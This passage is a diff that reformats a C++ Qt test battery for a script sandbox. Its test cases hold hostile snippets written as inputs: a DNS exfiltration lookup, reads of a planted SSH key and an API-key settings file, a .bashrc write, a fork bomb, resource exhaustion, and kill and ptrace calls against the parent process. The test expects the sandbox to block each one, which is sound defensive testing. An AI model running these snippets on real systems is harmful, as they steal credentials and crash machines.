@@ -8,13 +8,13 @@
 // got, or the run ends on a named limit), and that the studio (this process), a
 // journal and a second run started alongside are unaffected. Secrets and sockets are
 // planted in a fake home this test creates; the real one is never touched.
+#include "engine/stepengine.h"
 #include "journal/journal.h"
 #include "pidscgroup.h"
 #include "project/project.h"
 #include "run/runcontroller.h"
 #include "sandboxpolicy.h"
 #include "sandboxprocess.h"
-#include "engine/stepengine.h"
 
 #include <QDeadlineTimer>
 #include <QDir>
@@ -183,7 +183,8 @@ void TestHostileBattery::initTestCase()
     qputenv("XDG_RUNTIME_DIR", (m_home + QStringLiteral("/run-user")).toUtf8());
     QStandardPaths::setTestModeEnabled(true);
     // The studio's own settings, where a script must not read them.
-    const QString settings = QStandardPaths::writableLocation(QStandardPaths::AppConfigLocation) + QStringLiteral("/settings.ini");
+    const QString settings
+        = QStandardPaths::writableLocation(QStandardPaths::AppConfigLocation) + QStringLiteral("/settings.ini");
     QVERIFY(settings.startsWith(m_home));
     writeFile(settings, "[secrets]\napi_key=" + Secret + '\n');
     writeFile(m_home + QStringLiteral("/.config/toolstudio-settings.ini"), "api_key=" + Secret + '\n');
@@ -209,14 +210,17 @@ void TestHostileBattery::cleanupTestCase()
     ::close(m_bus);
 }
 
-std::optional<Project> TestHostileBattery::makeProject(const QString &dir, const QByteArray &script, const QByteArray &limits,
-                                                       const QByteArray &extraTools)
+std::optional<Project> TestHostileBattery::makeProject(const QString &dir, const QByteArray &script,
+                                                       const QByteArray &limits, const QByteArray &extraTools)
 {
     writeFile(dir + QStringLiteral("/scripts/main.py"), script);
-    writeFile(dir + QStringLiteral("/toolstudio.json"),
-              R"({"name": "t", "default_script": "main", "scripts": [{"name": "main", "path": "scripts/main.py"}], "limits": )"
-                  + limits + R"(, "tools": [{"name": "echo", "input_schema": {"type": "object", "properties": {"n": {"type": "integer"}}},
-               "handler": {"kind": "mock", "sequence": [{"result": {"ok": true}}]}})" + extraTools + "]}");
+    writeFile(
+        dir + QStringLiteral("/toolstudio.json"),
+        R"({"name": "t", "default_script": "main", "scripts": [{"name": "main", "path": "scripts/main.py"}], "limits": )"
+            + limits
+            + R"(, "tools": [{"name": "echo", "input_schema": {"type": "object", "properties": {"n": {"type": "integer"}}},
+               "handler": {"kind": "mock", "sequence": [{"result": {"ok": true}}]}})"
+            + extraTools + "]}");
     ProjectError error;
     auto project = Project::load(dir, &error);
     if (!project)
@@ -230,10 +234,12 @@ std::optional<Project> TestHostileBattery::makeProject(const QString &dir, const
 void TestHostileBattery::startAlongside(bool forks)
 {
     m_alongsideDir = std::make_unique<QTemporaryDir>();
-    const QByteArray work = forks ? "for i in range(15):\n    subprocess.run(['/bin/true'], check=True)\n    time.sleep(0.1)\n" : "";
-    const auto project = makeProject(m_alongsideDir->path(), "import subprocess, time\nfrom toolstudio import tools\n"
-                                                              "for i in range(3):\n    tools.echo(n=i)\n    time.sleep(0.05)\n"
-                                                              + work + "print('alongside ok', flush=True)\n");
+    const QByteArray work
+        = forks ? "for i in range(15):\n    subprocess.run(['/bin/true'], check=True)\n    time.sleep(0.1)\n" : "";
+    const auto project = makeProject(m_alongsideDir->path(),
+                                     "import subprocess, time\nfrom toolstudio import tools\n"
+                                     "for i in range(3):\n    tools.echo(n=i)\n    time.sleep(0.05)\n"
+                                         + work + "print('alongside ok', flush=True)\n");
     QVERIFY(project);
     m_alongside = std::make_unique<RunController>();
     m_alongside->setJournalPath(m_alongsideDir->path() + QStringLiteral("/journal.sqlite"));
@@ -275,8 +281,8 @@ void TestHostileBattery::checkStudioUnaffected()
     QCOMPARE(errno, EAGAIN);
 }
 
-Outcome TestHostileBattery::runScript(const QString &language, const QString &code, const QString &limits, int timeoutMs,
-                                      bool pidsCgroup)
+Outcome TestHostileBattery::runScript(const QString &language, const QString &code, const QString &limits,
+                                      int timeoutMs, bool pidsCgroup)
 {
     Outcome outcome;
     QTemporaryDir run(m_root.path() + QStringLiteral("/run-XXXXXX"));
@@ -293,7 +299,9 @@ Outcome TestHostileBattery::runScript(const QString &language, const QString &co
 
     SandboxPolicy policy;
     policy.workDir = work.toStdString();
-    const QString interpreter = language == QLatin1String("py") ? Python : language == QLatin1String("sh") ? Bash : Node;
+    const QString interpreter = language == QLatin1String("py") ? Python
+        : language == QLatin1String("sh")                       ? Bash
+                                                                : Node;
     policy.argv = {interpreter.toStdString(), file.toStdString()};
     policy.readPaths = {runtime.toStdString()};
     for (const QString &limit : limits.split(QLatin1Char(' '), Qt::SkipEmptyParts)) {
@@ -309,7 +317,8 @@ Outcome TestHostileBattery::runScript(const QString &language, const QString &co
     process.setPidsCgroupAllowed(pidsCgroup);
     connect(&process, &SandboxProcess::standardOutput, this, [&](const QByteArray &chunk) { outcome.out += chunk; });
     connect(&process, &SandboxProcess::standardError, this, [&](const QByteArray &chunk) { outcome.err += chunk; });
-    connect(&process, &SandboxProcess::policyEvent, this, [&](const SandboxPolicyEvent &event) { outcome.events.append(event); });
+    connect(&process, &SandboxProcess::policyEvent, this,
+            [&](const SandboxPolicyEvent &event) { outcome.events.append(event); });
     connect(&process, &SandboxProcess::finished, this, [&](int code, bool crashed, const QString &failure) {
         outcome.finished = true;
         outcome.exitCode = code;
@@ -352,12 +361,12 @@ void TestHostileBattery::battery_data()
 {
     QTest::addColumn<QString>("language");
     QTest::addColumn<QString>("code");
-    QTest::addColumn<QString>("limits");     ///< "cpu=1 fsize=…" overrides of the default rlimits
-    QTest::addColumn<int>("timeoutMs");      ///< the run timeout of this case
-    QTest::addColumn<QString>("expected");   ///< the script's last "RESULT …" line; empty: it cannot print one
-    QTest::addColumn<QString>("event");      ///< the policy event(s) the studio must see (syscall names), or empty
-    QTest::addColumn<int>("signal");         ///< the signal that ends the script (0: none)
-    QTest::addColumn<bool>("timedOut");      ///< contained by the run timeout
+    QTest::addColumn<QString>("limits");   ///< "cpu=1 fsize=…" overrides of the default rlimits
+    QTest::addColumn<int>("timeoutMs");    ///< the run timeout of this case
+    QTest::addColumn<QString>("expected"); ///< the script's last "RESULT …" line; empty: it cannot print one
+    QTest::addColumn<QString>("event");    ///< the policy event(s) the studio must see (syscall names), or empty
+    QTest::addColumn<int>("signal");       ///< the signal that ends the script (0: none)
+    QTest::addColumn<bool>("timedOut");    ///< contained by the run timeout
 
     const auto py = [](const char *name, const QString &body, const char *expected, const char *event = "",
                        const QString &limits = {}, int signal = 0, bool timedOut = false, int timeoutMs = 20000) {
@@ -376,16 +385,21 @@ void TestHostileBattery::battery_data()
        "RESULT EAFNOSUPPORT", "socket");
     py("1 tcp ipv6 loopback", s("print('RESULT', err(lambda: socket.socket(socket.AF_INET6).connect(('::1', 22))))"),
        "RESULT EAFNOSUPPORT", "socket");
-    py("1 udp ipv4 loopback", s("print('RESULT', err(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 53))))"),
+    py("1 udp ipv4 loopback",
+       s("print('RESULT', err(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 53))))"),
        "RESULT EAFNOSUPPORT", "socket");
-    py("1 udp ipv6 loopback", s("print('RESULT', err(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('::1', 53))))"),
+    py("1 udp ipv6 loopback",
+       s("print('RESULT', err(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('::1', 53))))"),
        "RESULT EAFNOSUPPORT", "socket");
-    py("1 udp dns exfiltration", s("try:\n    socket.getaddrinfo('secret-in-a-name.example.com', 53)\n    print('RESULT resolved')\n"
-                                   "except socket.gaierror as e:\n    print('RESULT gaierror')"),
+    py("1 udp dns exfiltration",
+       s("try:\n    socket.getaddrinfo('secret-in-a-name.example.com', 53)\n    print('RESULT resolved')\n"
+         "except socket.gaierror as e:\n    print('RESULT gaierror')"),
        "RESULT gaierror", "socket");
-    other("1 node tcp", "js", "require('net').connect(22, '127.0.0.1').on('error', e => console.log('RESULT', e.code));",
+    other("1 node tcp", "js",
+          "require('net').connect(22, '127.0.0.1').on('error', e => console.log('RESULT', e.code));",
           "RESULT EAFNOSUPPORT", "socket");
-    other("1 bash /dev/tcp", "sh", "if exec 5<>/dev/tcp/127.0.0.1/22; then echo RESULT connected; else echo RESULT refused; fi 2>/dev/null",
+    other("1 bash /dev/tcp", "sh",
+          "if exec 5<>/dev/tcp/127.0.0.1/22; then echo RESULT connected; else echo RESULT refused; fi 2>/dev/null",
           "RESULT refused", "socket");
 
     // 2. netlink, packet, vsock, AF_ALG, bluetooth, key and XDP sockets (raw numbers:
@@ -401,8 +415,9 @@ void TestHostileBattery::battery_data()
     // 3. AF_UNIX connect to a named socket (stands for D-Bus, ssh-agent, Wayland); abstract socket.
     py("3 unix named socket", s("print('RESULT', err(lambda: socket.socket(socket.AF_UNIX).connect(HOME + '/bus')))"),
        "RESULT EPERM", "socket");
-    py("3 unix abstract socket", s("print('RESULT', err(lambda: socket.socket(socket.AF_UNIX).connect('\\0toolstudio-test')))"),
-       "RESULT EPERM", "socket");
+    py("3 unix abstract socket",
+       s("print('RESULT', err(lambda: socket.socket(socket.AF_UNIX).connect('\\0toolstudio-test')))"), "RESULT EPERM",
+       "socket");
 
     // 4. io_uring.
     py("4 io_uring setup", s("print('RESULT', sc(425, 8, 0))"), "RESULT EPERM");
@@ -415,42 +430,48 @@ void TestHostileBattery::battery_data()
 
     // 6. A planted secret in the fake $HOME/.ssh; the studio's own settings.
     py("6 read ~/.ssh secret", s("print('RESULT', err(lambda: open(HOME + '/.ssh/id_rsa').read()))"), "RESULT EACCES");
-    py("6 read studio settings", s("print('RESULT', err(lambda: open(HOME + '/.config/toolstudio-settings.ini').read()))"),
-       "RESULT EACCES");
+    py("6 read studio settings",
+       s("print('RESULT', err(lambda: open(HOME + '/.config/toolstudio-settings.ini').read()))"), "RESULT EACCES");
 
     // 7. Write $HOME/.bashrc, /tmp/x, $XDG_RUNTIME_DIR/x; list $HOME.
-    py("7 write ~/.bashrc", s("print('RESULT', err(lambda: open(HOME + '/.bashrc', 'a').write('evil')))"), "RESULT EACCES");
+    py("7 write ~/.bashrc", s("print('RESULT', err(lambda: open(HOME + '/.bashrc', 'a').write('evil')))"),
+       "RESULT EACCES");
     py("7 write /tmp/x", s("print('RESULT', err(lambda: open('/tmp/x-toolstudio-battery', 'w')))"), "RESULT EACCES");
     py("7 write XDG_RUNTIME_DIR", s("print('RESULT', err(lambda: open(HOME + '/run-user/x', 'w')))"), "RESULT EACCES");
     py("7 list $HOME", s("print('RESULT', err(lambda: os.listdir(HOME)))"), "RESULT EACCES");
 
     // 8. Symlink and hardlink to a secret placed in the work dir.
-    py("8 symlink to secret", s("os.symlink(HOME + '/.ssh/id_rsa', 'link')\nprint('RESULT', err(lambda: open('link').read()))"),
+    py("8 symlink to secret",
+       s("os.symlink(HOME + '/.ssh/id_rsa', 'link')\nprint('RESULT', err(lambda: open('link').read()))"),
        "RESULT EACCES");
-    py("8 hardlink to secret", s("r = err(lambda: os.link(HOME + '/.ssh/id_rsa', 'hard'))\n"
-                                 "print('RESULT', r if r != 'allowed' else err(lambda: open('hard').read()))"),
+    py("8 hardlink to secret",
+       s("r = err(lambda: os.link(HOME + '/.ssh/id_rsa', 'hard'))\n"
+         "print('RESULT', r if r != 'allowed' else err(lambda: open('hard').read()))"),
        ::geteuid() == 0 ? "RESULT EPERM" : "RESULT EXDEV");
 
     // 10. Exec a binary the script wrote in the work dir; memfd_create + execveat.
-    py("10 exec written binary", s("import shutil\nshutil.copy('/bin/true', 't')\nos.chmod('t', 0o755)\n"
-                                   "print('RESULT', err(lambda: subprocess.run(['./t'])))"),
+    py("10 exec written binary",
+       s("import shutil\nshutil.copy('/bin/true', 't')\nos.chmod('t', 0o755)\n"
+         "print('RESULT', err(lambda: subprocess.run(['./t'])))"),
        "RESULT EACCES");
     py("10 memfd_create + execveat", s("print('RESULT', sc(319, 0, 0), err(lambda: os.memfd_create('x')))"),
        "RESULT EPERM EPERM");
 
     // 11. Disk fill (file size), inode fill.
-    py("11 disk fill", s("signal = __import__('signal')\n"
-                         "f = open('big', 'wb')\nprint('RESULT', err(lambda: [f.write(b'x' * 1048576) for _ in range(64)] and f.flush()))"),
+    py("11 disk fill",
+       s("signal = __import__('signal')\n"
+         "f = open('big', 'wb')\nprint('RESULT', err(lambda: [f.write(b'x' * 1048576) for _ in range(64)] and f.flush()))"),
        "RESULT EFBIG", "", QStringLiteral("fsize=8388608"));
-    py("11 inode fill", s("i = 0\nwhile True:\n    open('f%d' % i, 'w').close()\n    i += 1"), "", "", {}, 0, true, 1500);
+    py("11 inode fill", s("i = 0\nwhile True:\n    open('f%d' % i, 'w').close()\n    i += 1"), "", "", {}, 0, true,
+       1500);
 
     // 12. kill(-1); kill(studio); kill(studio | 1<<32); F_SETOWN to the studio; SIGSTOP to the studio.
     py("12 kill(-1)", s("print('RESULT', sc(62, -1, 9))"), "RESULT EPERM", "kill");
     py("12 kill(studio)", s("print('RESULT', sc(62, STUDIO, 15))"), "RESULT EPERM", "kill");
     py("12 kill(studio | 1<<32)", s("print('RESULT', sc(62, STUDIO | (1 << 32), 15))"), "RESULT EPERM", "kill");
     py("12 F_SETOWN to studio", s("print('RESULT', sc(72, 1, 8, STUDIO))"), "RESULT EPERM");
-    py("12 SIGSTOP to studio", s("print('RESULT', sc(62, STUDIO, 19), sc(234, STUDIO, STUDIO, 19))"), "RESULT EPERM EPERM",
-       "kill tgkill");
+    py("12 SIGSTOP to studio", s("print('RESULT', sc(62, STUDIO, 19), sc(234, STUDIO, STUDIO, 19))"),
+       "RESULT EPERM EPERM", "kill tgkill");
 
     // 13. ptrace(PTRACE_ATTACH, studio), process_vm_readv, pidfd_getfd.
     py("13 ptrace attach", s("print('RESULT', sc(101, 16, STUDIO, 0, 0))"), "RESULT EPERM", "ptrace");
@@ -468,22 +489,25 @@ void TestHostileBattery::battery_data()
 
     // 16. setsid, setpgid, double fork, then outlive a stop: the grandchild keeps
     // writing a marker; the run timeout kills the group and the marker stands still.
-    py("16 setsid setpgid double fork", s("if os.fork() == 0:\n    if os.fork() == 0:\n"
-                                          "        r = sc(112) + ' ' + sc(109, 0, 0)\n"
-                                          "        print('RESULT', r, flush=True)\n"
-                                          "        while True:\n            open('marker', 'a').write('x')\n            time.sleep(0.05)\n"
-                                          "    os._exit(0)\ntime.sleep(1000)"),
+    py("16 setsid setpgid double fork",
+       s("if os.fork() == 0:\n    if os.fork() == 0:\n"
+         "        r = sc(112) + ' ' + sc(109, 0, 0)\n"
+         "        print('RESULT', r, flush=True)\n"
+         "        while True:\n            open('marker', 'a').write('x')\n            time.sleep(0.05)\n"
+         "    os._exit(0)\ntime.sleep(1000)"),
        "RESULT EPERM EPERM", "", {}, 0, true, 1500);
 
     // 17. Fork bomb; thread bomb; memory bomb; CPU burn. The fork bomb runs into its
     // run's pids.max (its own cgroup) while the run alongside, started just before it,
     // completes; the bomb is contained by the run timeout.
     other("17 fork bomb", "sh", "b() { b | b & }; b; sleep 100", "", "", 3000, true);
-    py("17 thread bomb", s("import threading\nev = threading.Event()\nn = 0\ntry:\n    while True:\n"
-                           "        threading.Thread(target=ev.wait, daemon=True).start()\n        n += 1\n"
-                           "except RuntimeError:\n    print('RESULT RuntimeError', n < 200, flush=True)\nev.set()\nos._exit(0)"),
+    py("17 thread bomb",
+       s("import threading\nev = threading.Event()\nn = 0\ntry:\n    while True:\n"
+         "        threading.Thread(target=ev.wait, daemon=True).start()\n        n += 1\n"
+         "except RuntimeError:\n    print('RESULT RuntimeError', n < 200, flush=True)\nev.set()\nos._exit(0)"),
        "RESULT RuntimeError True");
-    py("17 memory bomb", s("try:\n    b = bytearray(3 * 1024 ** 3)\n    print('RESULT allocated')\nexcept MemoryError:\n    print('RESULT MemoryError')"),
+    py("17 memory bomb",
+       s("try:\n    b = bytearray(3 * 1024 ** 3)\n    print('RESULT allocated')\nexcept MemoryError:\n    print('RESULT MemoryError')"),
        "RESULT MemoryError");
     py("17 CPU burn", s("while True:\n    pass"), "", "", QStringLiteral("cpu=1"), SIGXCPU);
 
@@ -491,8 +515,9 @@ void TestHostileBattery::battery_data()
     other("18 background job keeps stdout", "sh", "sleep 1000 &\necho RESULT started", "RESULT started");
 
     // 19. fd exhaustion.
-    py("19 fd exhaustion", s("fds = []\ntry:\n    while True:\n        fds.append(os.open('/dev/null', os.O_RDONLY))\n"
-                             "except OSError as e:\n    print('RESULT', errno.errorcode[e.errno], len(fds) < 256)"),
+    py("19 fd exhaustion",
+       s("fds = []\ntry:\n    while True:\n        fds.append(os.open('/dev/null', os.O_RDONLY))\n"
+         "except OSError as e:\n    print('RESULT', errno.errorcode[e.errno], len(fds) < 256)"),
        "RESULT EMFILE True");
 
     // 20. unshare, clone(CLONE_NEWUSER), clone3, setns.
@@ -508,8 +533,9 @@ void TestHostileBattery::battery_data()
     py("21 pivot_root", s("print('RESULT', sc(155, 0, 0))"), "RESULT EPERM", "pivot_root");
 
     // 22. bpf, perf_event_open, userfaultfd, keyctl, syslog, kexec_load, init_module, iopl.
-    py("22 kernel interfaces", s("print('RESULT', sc(321, 0, 0, 0), sc(298, 0, 0, -1, -1, 0), sc(323, 0), sc(250, 0, 0, 0), "
-                                 "sc(103, 3, 0, 0), sc(246, 0, 0, 0, 0), sc(175, 0, 0, 0), sc(172, 3))"),
+    py("22 kernel interfaces",
+       s("print('RESULT', sc(321, 0, 0, 0), sc(298, 0, 0, -1, -1, 0), sc(323, 0), sc(250, 0, 0, 0), "
+         "sc(103, 3, 0, 0), sc(246, 0, 0, 0, 0), sc(175, 0, 0, 0), sc(172, 3))"),
        "RESULT EPERM EPERM EPERM EPERM EPERM EPERM EPERM EPERM");
 
     // 23. personality(ADDR_NO_RANDOMIZE | READ_IMPLIES_EXEC).
@@ -520,24 +546,28 @@ void TestHostileBattery::battery_data()
     py("24 x32 syscall", s("libc.syscall(0x40000000 | 39)\nprint('RESULT survived')"), "", "", {}, SIGSYS);
 
     // 25. TIOCSTI plain and with high bits set, TIOCLINUX, open /dev/tty.
-    py("25 terminal", s("print('RESULT', sc(16, 0, 0x5412, 0), sc(16, 0, 0x5412 | (1 << 32), 0), sc(16, 0, 0x541C, 0), "
-                        "err(lambda: open('/dev/tty', 'rb')))"),
+    py("25 terminal",
+       s("print('RESULT', sc(16, 0, 0x5412, 0), sc(16, 0, 0x5412 | (1 << 32), 0), sc(16, 0, 0x541C, 0), "
+         "err(lambda: open('/dev/tty', 'rb')))"),
        "RESULT EPERM EPERM EPERM EACCES");
 
     // 26. A setuid binary: no privilege gained (no_new_privs).
-    py("26 setuid binary", s("r = subprocess.run(['/usr/bin/su', 'root', '-c', 'id -u'], stdin=subprocess.DEVNULL, capture_output=True)\n"
-                             "p = subprocess.run(['/usr/bin/passwd', '-S', 'root'], stdin=subprocess.DEVNULL, capture_output=True)\n"
-                             "print('RESULT', r.stdout.strip() != b'0' and r.returncode != 0, p.returncode != 0)"),
+    py("26 setuid binary",
+       s("r = subprocess.run(['/usr/bin/su', 'root', '-c', 'id -u'], stdin=subprocess.DEVNULL, capture_output=True)\n"
+         "p = subprocess.run(['/usr/bin/passwd', '-S', 'root'], stdin=subprocess.DEVNULL, capture_output=True)\n"
+         "print('RESULT', r.stdout.strip() != b'0' and r.returncode != 0, p.returncode != 0)"),
        "RESULT True True");
 
     // 27. Dump the environment: no secret, no session variable.
-    py("27 environment dump", s("bad = sorted(k for k in os.environ if k in ('SECRET_API_KEY', 'DBUS_SESSION_BUS_ADDRESS', 'DISPLAY', "
-                                "'SSH_AUTH_SOCK', 'XDG_RUNTIME_DIR', 'XDG_CONFIG_HOME'))\n"
-                                "print('RESULT', bad, any('sk-test' in v or 'SECRET' in v for v in os.environ.values()), os.environ['HOME'] == os.getcwd())"),
+    py("27 environment dump",
+       s("bad = sorted(k for k in os.environ if k in ('SECRET_API_KEY', 'DBUS_SESSION_BUS_ADDRESS', 'DISPLAY', "
+         "'SSH_AUTH_SOCK', 'XDG_RUNTIME_DIR', 'XDG_CONFIG_HOME'))\n"
+         "print('RESULT', bad, any('sk-test' in v or 'SECRET' in v for v in os.environ.values()), os.environ['HOME'] == os.getcwd())"),
        "RESULT [] False True");
 
     // 28. List open fds: only 0, 1, 2 and 3.
-    py("28 open fds", s("print('RESULT', ','.join(str(fd) for fd in range(1024) if err(lambda: os.fstat(fd)) == 'allowed'))"),
+    py("28 open fds",
+       s("print('RESULT', ','.join(str(fd) for fd in range(1024) if err(lambda: os.fstat(fd)) == 'allowed'))"),
        "RESULT 0,1,2,3");
 }
 
@@ -570,7 +600,8 @@ void TestHostileBattery::battery()
             result = line;
     }
     QVERIFY2(QString::fromUtf8(result) == expected,
-             qPrintable(QStringLiteral("got \"%1\", stderr: %2").arg(QString::fromUtf8(result), QString::fromUtf8(outcome.err.left(2000)))));
+             qPrintable(QStringLiteral("got \"%1\", stderr: %2")
+                            .arg(QString::fromUtf8(result), QString::fromUtf8(outcome.err.left(2000)))));
     QCOMPARE(outcome.timedOut, timedOut);
     if (signal) {
         QVERIFY(outcome.crashed);
@@ -601,30 +632,39 @@ void TestHostileBattery::battery()
 void TestHostileBattery::bridgeAbuse_data()
 {
     QTest::addColumn<QByteArray>("script");
-    QTest::addColumn<int>("status");       ///< RunStatus of the abusive run
-    QTest::addColumn<QString>("error");    ///< expected part of the run's error / the script's last line
+    QTest::addColumn<int>("status");    ///< RunStatus of the abusive run
+    QTest::addColumn<QString>("error"); ///< expected part of the run's error / the script's last line
     const QByteArray prelude = "import os, socket, sys, json\nfrom toolstudio import tools, ToolError\n";
-    QTest::newRow("29 10 MiB line") << prelude + "os.write(3, b'{\"type\":\"call\",\"id\":\"a\",\"tool\":\"echo\",\"args\":{\"s\":\"' + b'x' * (10 << 20) + b'\"}}\\n')\nprint('RESULT', os.read(3, 4096)[:300].decode(errors='replace'))\n"
+    QTest::newRow("29 10 MiB line") << prelude
+            + "os.write(3, b'{\"type\":\"call\",\"id\":\"a\",\"tool\":\"echo\",\"args\":{\"s\":\"' + b'x' * (10 << 20) + b'\"}}\\n')\nprint('RESULT', os.read(3, 4096)[:300].decode(errors='replace'))\n"
                                     // the id comes first: that one call is refused by id, the run goes on
                                     << int(RunStatus::Completed) << QStringLiteral("\"code\":\"request_too_large\"");
     QTest::newRow("29 endless line") << prelude + "while True:\n    os.write(3, b'x' * 65536)\n"
                                      << int(RunStatus::Failed) << QStringLiteral("protocol error on the tools bridge");
-    QTest::newRow("29 nested 100000") << prelude + "os.write(3, b'{\"type\":\"call\",\"id\":\"a\",\"tool\":\"echo\",\"args\":' + b'[' * 100000 + b']' * 100000 + b'}\\n')\nimport time; time.sleep(5)\n"
+    QTest::newRow("29 nested 100000") << prelude
+            + "os.write(3, b'{\"type\":\"call\",\"id\":\"a\",\"tool\":\"echo\",\"args\":' + b'[' * 100000 + b']' * 100000 + b'}\\n')\nimport time; time.sleep(5)\n"
                                       << int(RunStatus::Failed) << QStringLiteral("protocol error on the tools bridge");
-    QTest::newRow("29 bad UTF-8") << prelude + "os.write(3, b'{\"type\":\"call\",\"id\":\"a\",\"tool\":\"echo\",\"args\":{\"s\":\"\\xff\\xfe\"}}\\n')\nprint('RESULT', os.read(3, 4096)[:200].decode(errors='replace'))\n"
+    QTest::newRow("29 bad UTF-8") << prelude
+            + "os.write(3, b'{\"type\":\"call\",\"id\":\"a\",\"tool\":\"echo\",\"args\":{\"s\":\"\\xff\\xfe\"}}\\n')\nprint('RESULT', os.read(3, 4096)[:200].decode(errors='replace'))\n"
                                   << int(RunStatus::Completed) << QStringLiteral("protocol_error");
-    QTest::newRow("29 100000 calls burst") << prelude + "line = json.dumps({'type': 'call', 'id': 'x', 'tool': 'echo', 'args': {'n': 1}}).encode() + b'\\n'\n"
-                                                        "try:\n    for i in range(100000):\n        tools.echo(n=i)\nexcept ToolError as e:\n    print('RESULT', e.code)\n"
+    QTest::newRow("29 100000 calls burst") << prelude
+            + "line = json.dumps({'type': 'call', 'id': 'x', 'tool': 'echo', 'args': {'n': 1}}).encode() + b'\\n'\n"
+              "try:\n    for i in range(100000):\n        tools.echo(n=i)\nexcept ToolError as e:\n    print('RESULT', e.code)\n"
                                            << int(RunStatus::Completed) << QStringLiteral("RESULT max_calls_exceeded");
-    QTest::newRow("29 undeclared tool") << prelude + "try:\n    tools.call('rm_rf', {})\nexcept Exception as e:\n    print('RESULT', getattr(e, 'code', type(e).__name__))\n"
+    QTest::newRow("29 undeclared tool") << prelude
+            + "try:\n    tools.call('rm_rf', {})\nexcept Exception as e:\n    print('RESULT', getattr(e, 'code', type(e).__name__))\n"
                                         << int(RunStatus::Completed) << QStringLiteral("RESULT");
-    QTest::newRow("29 fd over SCM_RIGHTS") << prelude + "s = socket.socket(fileno=3)\nfd = os.open('passed-fd-marker', os.O_RDWR | os.O_CREAT)\n"
-                                                        "s.sendmsg([b'{\"type\":\"call\",\"id\":\"f\",\"tool\":\"echo\",\"args\":{\"n\":1}}\\n'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, bytes(memoryview(__import__('array').array('i', [fd]))))])\n"
-                                                        "print('RESULT', s.recv(4096).decode().strip()[:40])\n"
-                                           << int(RunStatus::Failed) << QStringLiteral("file descriptors passed over the bridge are refused");
-    QTest::newRow("29 bridge closed mid-call") << prelude + "os.write(3, b'{\"type\":\"call\",\"id\":\"c\",\"tool\":\"echo\",\"args\":{\"n\":1}}\\n')\nos.close(3)\nprint('RESULT closed')\n"
+    QTest::newRow("29 fd over SCM_RIGHTS")
+        << prelude
+            + "s = socket.socket(fileno=3)\nfd = os.open('passed-fd-marker', os.O_RDWR | os.O_CREAT)\n"
+              "s.sendmsg([b'{\"type\":\"call\",\"id\":\"f\",\"tool\":\"echo\",\"args\":{\"n\":1}}\\n'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, bytes(memoryview(__import__('array').array('i', [fd]))))])\n"
+              "print('RESULT', s.recv(4096).decode().strip()[:40])\n"
+        << int(RunStatus::Failed) << QStringLiteral("file descriptors passed over the bridge are refused");
+    QTest::newRow("29 bridge closed mid-call") << prelude
+            + "os.write(3, b'{\"type\":\"call\",\"id\":\"c\",\"tool\":\"echo\",\"args\":{\"n\":1}}\\n')\nos.close(3)\nprint('RESULT closed')\n"
                                                << int(RunStatus::Completed) << QStringLiteral("RESULT closed");
-    QTest::newRow("29 stdout flood") << prelude + "chunk = 'y' * 65535 + '\\n'\nfor i in range(400):\n    sys.stdout.write(chunk)\nprint('RESULT flooded')\n"
+    QTest::newRow("29 stdout flood") << prelude
+            + "chunk = 'y' * 65535 + '\\n'\nfor i in range(400):\n    sys.stdout.write(chunk)\nprint('RESULT flooded')\n"
                                      << int(RunStatus::Completed) << QStringLiteral("truncated at 10485760 bytes");
 }
 
@@ -641,15 +681,15 @@ void TestHostileBattery::bridgeAbuse()
     controller.setJournalPath(dir.path() + QStringLiteral("/journal.sqlite"));
     QByteArray out, err;
     bool done = false;
-    connect(&controller, &RunController::outputReceived, this, [&](int stream, const QByteArray &chunk) {
-        (stream == 1 ? out : err) += chunk;
-    });
+    connect(&controller, &RunController::outputReceived, this,
+            [&](int stream, const QByteArray &chunk) { (stream == 1 ? out : err) += chunk; });
     connect(&controller, &RunController::finished, this, [&] { done = true; });
     QString startError;
     QVERIFY2(controller.start(*project, QString(), &startError), qPrintable(startError));
     QTRY_VERIFY_WITH_TIMEOUT(done, 60000);
     const RunRecord &record = controller.record();
-    QVERIFY2(int(record.status) == status, qPrintable(record.error + QStringLiteral(" / ") + QString::fromUtf8(err.left(500))));
+    QVERIFY2(int(record.status) == status,
+             qPrintable(record.error + QStringLiteral(" / ") + QString::fromUtf8(err.left(500))));
     const QString everything = record.error + QString::fromUtf8(out.right(4000)) + QString::fromUtf8(err.right(4000));
     QVERIFY2(everything.contains(error), qPrintable(everything.left(3000)));
     QVERIFY(out.size() <= 10 * 1024 * 1024 + 200); // the cap plus the truncation notice
@@ -694,7 +734,9 @@ for i in range(3):
 print(os.getcwd(), flush=True)
 time.sleep(1000)
 )";
-    const auto project = makeProject(dir.path(), script, timeout ? R"({"run_timeout_seconds": 5})" : "{}"); // long enough to start all eight under load
+    const auto project
+        = makeProject(dir.path(), script,
+                      timeout ? R"({"run_timeout_seconds": 5})" : "{}"); // long enough to start all eight under load
     QVERIFY(project);
     RunController controller;
     controller.setJournalPath(dir.path() + QStringLiteral("/journal.sqlite"));
@@ -725,7 +767,8 @@ time.sleep(1000)
         return found;
     };
     const auto before = processesIn(work);
-    QVERIFY2(before.size() >= 8, qPrintable(QString::number(before.size()))); // script + sleep + 3 children + 3 grandchildren
+    QVERIFY2(before.size() >= 8,
+             qPrintable(QString::number(before.size()))); // script + sleep + 3 children + 3 grandchildren
     const QList<QByteArray> groups = before.values();
     for (const QByteArray &group : groups)
         QCOMPARE(group, groups.first());
@@ -817,22 +860,24 @@ void TestHostileBattery::processBudget()
         QSKIP(qPrintable(QStringLiteral("no writable pids cgroup here: ") + QString::fromStdString(probe.why)));
     rlimit studio = {};
     QCOMPARE(::getrlimit(RLIMIT_NPROC, &studio), 0);
-    const QString code = PythonPrelude + QStringLiteral(
-        "import resource\n"
-        "soft = resource.getrlimit(resource.RLIMIT_NPROC)[0]\n"
-        "line = [l for l in open('/proc/self/cgroup').read().splitlines() if ':pids:' in l or l.startswith('0::')]\n"
-        "print('NPROC', soft)\n"
-        "print('CGROUP', ' '.join(line))\n"
-        "kids = []\n"
-        "try:\n"
-        "    for i in range(100):\n"
-        "        pid = os.fork()\n"
-        "        if pid == 0:\n"
-        "            time.sleep(5)\n"
-        "            os._exit(0)\n"
-        "        kids.append(pid)\n"
-        "except OSError as e:\n"
